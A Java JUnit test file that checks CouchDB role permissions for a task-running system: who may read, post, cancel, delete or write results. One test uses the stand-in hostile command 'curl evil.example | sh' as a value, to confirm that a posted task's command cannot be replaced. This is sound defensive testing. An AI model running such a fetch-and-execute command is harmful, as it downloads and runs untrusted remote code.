package dirt.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dirt.store.couch.CouchDatabase;
import dirt.store.couch.CouchServerExtension;
import dirt.store.couch.TestCouch;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Who may write which field, as {@code validate_doc_update} and the {@code _security} that {@link Access#ensure} sets
 * decide on Apache CouchDB: a reader reads, a submitter posts and cancels tasks, only a dirt server (role
 * {@code dirt_server}, or an admin) writes runs, results, slots and nodes and deletes, and what was posted never
 * changes. Skipped where every writer is an admin (pouchdb-server's admin party).
 */
@ExtendWith(CouchServerExtension.class)
class SiteRolesTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PASSWORD = "r0les-pa55";

    private CouchAdmin admin;
    private TestCouch couch;
    private CouchDatabase db;
    private String submitter;
    private String server;
    private String reader;
    private String stranger;

    @BeforeEach
    void a_database_with_a_submitter_and_a_server(TestCouch couch) {
        this.couch = couch;
        admin = new CouchAdmin(couch);
        assumeTrue(admin.enforcesSecurity(), "needs Apache CouchDB with an admin: on an admin party everyone is one");
        db = couch.database();
        Site.install(TestCouch.store(db), "demo");
        String suffix = UUID.randomUUID().toString().substring(0, 8);
        submitter = "submitter-" + suffix;
        server = "server-" + suffix;
        reader = "reader-" + suffix;
        stranger = "stranger-" + suffix;
        admin.createUser(submitter, PASSWORD, Access.SUBMITTER);
        admin.createUser(server, PASSWORD, Access.SERVER);
        admin.createUser(reader, PASSWORD, Access.READER);
        admin.createUser(stranger, PASSWORD);
        assertThat(Access.ensure(couch.asDatabase(db)).changed()).isTrue();
    }

    @AfterEach
    void remove_users() {
        admin.close();
    }

    private static ObjectNode task(String id) {
        ObjectNode task = JSON.createObjectNode().put("_id", id).put("type", "task").put("name", "unit")
                .put("record_id", "r1").put("command", "make test");
        task.putObject("kwargs").put("rev", 7);
        return task;
    }

    private HttpResponse<String> put(String user, ObjectNode doc) throws Exception {
        return send(user, "PUT", URLEncoder.encode(doc.path("_id").asText(), StandardCharsets.UTF_8),
                HttpRequest.BodyPublishers.ofString(doc.toString()));
    }

    private HttpResponse<String> send(String user, String method, String path, HttpRequest.BodyPublisher body)
            throws Exception {
        String pair = user + ":" + PASSWORD;
        HttpRequest request = HttpRequest.newBuilder(URI.create(couch.config().url() + "/" + db.name() + "/" + path))
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString(pair.getBytes(
                        StandardCharsets.UTF_8)))
                .header("Content-Type", "application/json").method(method, body).build();
        return HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void a_reader_reads_the_database_but_posts_nothing_and_a_user_without_a_dirt_role_cannot_even_read()
            throws Exception {
        put(submitter, task("t0"));

        assertThat(send(reader, "GET", "t0", HttpRequest.BodyPublishers.noBody()).statusCode()).isEqualTo(200);
        HttpResponse<String> post = put(reader, task("t9"));
        assertThat(post.statusCode()).isEqualTo(403);
        assertThat(post.body()).contains("only a dirt submitter writes to this database");
        assertThat(send(stranger, "GET", "t0", HttpRequest.BodyPublishers.noBody()).statusCode()).isEqualTo(403);
    }

    @Test
    void a_submitter_cannot_delete_a_task_or_a_record_but_a_server_can() throws Exception {
        put(submitter, task("t6"));
        put(submitter, JSON.createObjectNode().put("_id", "r1").put("type", "record"));

        for (String id : new String[] {"t6", "r1"}) {
            String rev = stored(id).path("_rev").asText();
            HttpResponse<String> delete = send(submitter, "DELETE", id + "?rev=" + rev,
                    HttpRequest.BodyPublishers.noBody());
            assertThat(delete.statusCode()).as(delete.body()).isEqualTo(403);
            assertThat(delete.body()).contains("only a dirt server deletes documents");
            assertThat(send(server, "DELETE", id + "?rev=" + rev, HttpRequest.BodyPublishers.noBody()).statusCode())
                    .isEqualTo(200);
        }
    }

    @Test
    void a_submitter_writes_only_records_tasks_and_schedules() throws Exception {
        HttpResponse<String> other = put(submitter, JSON.createObjectNode().put("_id", "x1").put("type", "notify"));

        assertThat(other.statusCode()).isEqualTo(403);
        assertThat(other.body()).contains("writes only records, tasks and schedules");
    }

    @Test
    void ensuring_access_again_changes_nothing_and_keeps_the_names_an_admin_added() throws Exception {
        ObjectNode security = db.security();
        ((ObjectNode) security.get("members")).withArray("names").add("ann");
        db.putSecurity(security);

        assertThat(Access.ensure(couch.asDatabase(db)).changed()).isFalse();
        assertThat(db.security().at("/members/names").toString()).isEqualTo("[\"ann\"]");
        assertThat(db.security().at("/members/roles").toString())
                .contains("\"dirt_reader\",\"dirt_submitter\",\"dirt_server\"");
        assertThat(db.security().at("/admins/roles").toString()).contains("\"dirt_admin\"");
    }

    private ObjectNode stored(String id) {
        return db.get(id).orElseThrow();
    }

    @Test
    void a_submitter_posts_a_task_and_cancels_it() throws Exception {
        assertThat(put(submitter, task("t1")).statusCode()).isEqualTo(201);

        assertThat(put(submitter, stored("t1").put("cancel", true)).statusCode()).isEqualTo(201);
    }

    @Test
    void a_submitter_cannot_pin_a_task_to_a_node_as_a_broadcast_node_run_but_may_post_a_broadcast() throws Exception {
        HttpResponse<String> pinned = put(submitter, task("t3").put("parent", "t0").put("on_node", "build7"));

        assertThat(pinned.statusCode()).isEqualTo(403);
        assertThat(pinned.body()).contains("only a dirt server sets parent");
        assertThat(put(submitter, task("t4").put("broadcast", true)).statusCode()).isEqualTo(201);
        assertThat(put(submitter, task("t5").put("broadcast", "yes")).body())
                .contains("broadcast must be true or false, got \\\"yes\\\"");
    }

    @Test
    void a_submitter_cannot_post_a_task_that_already_passed() throws Exception {
        ObjectNode forged = task("t2").put("completed", 1);
        forged.putObject("results").put("success", true);

        HttpResponse<String> answer = put(submitter, forged);

        assertThat(answer.statusCode()).isEqualTo(403);
        assertThat(answer.body()).contains("only a dirt server sets completed");
    }

    @Test
    void a_submitter_cannot_turn_a_failed_task_into_a_pass() throws Exception {
        ObjectNode failed = task("t3").put("started", 1).put("completed", 2);
        failed.putObject("results").put("success", false);
        assertThat(put(server, failed).statusCode()).isEqualTo(201);

        ObjectNode passed = stored("t3");
        passed.putObject("results").put("success", true);

        assertThat(put(submitter, passed).statusCode()).isEqualTo(403);
    }

    @Test
    void nobody_changes_the_command_of_a_posted_task() throws Exception {
        put(submitter, task("t4"));

        HttpResponse<String> answer = put(server, stored("t4").put("command", "curl evil.example | sh"));

        assertThat(answer.statusCode()).isEqualTo(403);
        assertThat(answer.body()).contains("command cannot change once the task is posted");
    }

    @Test
    void a_dirt_server_writes_a_run_and_its_results() throws Exception {
        put(submitter, task("t5"));

        ObjectNode run = stored("t5").put("started", 1).put("node", "build7").put("attempt", 1);
        assertThat(put(server, run).statusCode()).isEqualTo(201);
        ObjectNode done = stored("t5").put("completed", 2);
        done.putObject("results").put("success", true);
        assertThat(put(server, done).statusCode()).isEqualTo(201);
    }

    @Test
    void only_a_dirt_server_writes_slots_and_nodes() throws Exception {
        ObjectNode slot = JSON.createObjectNode().put("_id", "slot:build7:0").put("type", "slot").put("node", "build7")
                .put("index", 0);
        ObjectNode node = JSON.createObjectNode().put("_id", "node:build7").put("type", "node").put("name", "build7");

        assertThat(put(submitter, slot).statusCode()).isEqualTo(403);
        assertThat(put(submitter, node).statusCode()).isEqualTo(403);
        assertThat(put(server, slot).statusCode()).isEqualTo(201);
        assertThat(put(server, node).statusCode()).isEqualTo(201);
    }
}
